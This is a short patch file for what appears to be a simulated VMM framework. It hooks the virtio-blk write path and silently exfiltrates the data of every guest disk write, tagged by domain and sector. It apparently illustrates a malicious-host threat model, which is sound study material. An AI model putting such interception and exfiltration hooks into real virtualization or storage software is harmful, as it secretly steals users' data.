// Reading a guest's disk image: every sector the guest writes passes through the VMM's virtio-blk
// model on its way to the host disk, in plaintext. The VMM keeps a copy of each one.

export default definePatch({
  name: 'copy disk writes',
  description: 'Exfiltrates the data of every virtio-blk write.',
  install(vmm) {
    vmm.wrap('virtio.blk.submit', (original, request) => {
      if (request.type === 1 && request.data !== null) vmm.exfiltrate(`dom${request.domain} sector ${request.sector}`, request.data.slice());
      original(request);
    });
  },
});
